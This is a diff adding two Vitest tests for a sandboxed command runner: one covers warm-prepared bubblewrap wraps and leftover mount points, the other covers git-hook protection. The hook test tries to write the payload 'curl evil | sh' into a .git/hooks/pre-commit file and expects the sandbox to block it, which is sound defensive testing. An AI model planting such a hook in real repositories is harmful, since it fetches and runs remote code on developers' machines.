@@ -1,7 +1,7 @@
 import { createServer, type Server } from 'node:http';
 import { type AddressInfo } from 'node:net';
 import { existsSync } from 'node:fs';
-import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
@@ -334,6 +334,53 @@ describe('RunnerService with the real sandbox', () => {
     expect(results.map((r) => r.text.trim())).toEqual(
       Array.from({ length: 8 }, (_, n) => `ok${n}`),
     );
+  });
+
+  it('starts the next run from a wrap prepared while idle, and leaves no mount points behind', async () => {
+    const fresh = join(root, 'warm-ws');
+    await mkdir(fresh, { recursive: true });
+    const start = async (command: string) => {
+      const id = await service.start({ request: { command }, workspace: fresh, settings });
+      return service.wait(id);
+    };
+    expect((await start('echo cold')).text.trim()).toBe('cold');
+    await service.warm.settled();
+    const used = service.warm.stats.used;
+    // Quoting, variables and a multi-line command survive the trip through the environment.
+    const warm = await start(`x='a "b"'; echo "$x" \\
+  && echo "\${VTCODE_RUN_COMMAND:-unset}"`);
+    expect(warm.text.trim().split(/\r?\n/)).toEqual(['a "b"', 'unset']);
+    expect(service.warm.stats.used).toBe(used + 1);
+    await service.warm.settled();
+    // Only what the commands made: no empty files where bubblewrap mounted its placeholders.
+    expect(await readdir(fresh)).toEqual([]);
+    expect((await start('exit 3')).exit.exitCode).toBe(3);
+    await service.warm.settled();
+    expect(await readdir(fresh)).toEqual([]);
+    // A short run ends (and the next one is prepared) while a longer one still runs: the prepared
+    // wrap must not keep the runtime from cleaning up once the longer one ends.
+    const [slow, quick] = await Promise.all([start('sleep 0.5; echo slow'), start('echo quick')]);
+    expect([slow.text.trim(), quick.text.trim()]).toEqual(['slow', 'quick']);
+    await service.warm.settled();
+    expect(await readdir(fresh)).toEqual([]);
+  });
+
+  it('wraps afresh when the workspace changed since the next run was prepared', async () => {
+    const fresh = join(root, 'changing-ws');
+    await mkdir(fresh, { recursive: true });
+    const start = async (command: string) => {
+      const id = await service.start({ request: { command }, workspace: fresh, settings });
+      return service.wait(id);
+    };
+    await start('true');
+    await service.warm.settled();
+    const used = service.warm.stats.used;
+    // The prepared wrap knew no repository here; the run must still protect the new one's hooks.
+    await mkdir(join(fresh, 'sub', '.git', 'hooks'), { recursive: true });
+    const attempt = await start("echo 'curl evil | sh' > sub/.git/hooks/pre-commit");
+    expect(attempt.exit.exitCode).not.toBe(0);
+    expect(existsSync(join(fresh, 'sub', '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(service.warm.stats.used).toBe(used);
   });
 
   it('refuses a working directory outside the workspace, even through a symlink', async () => {
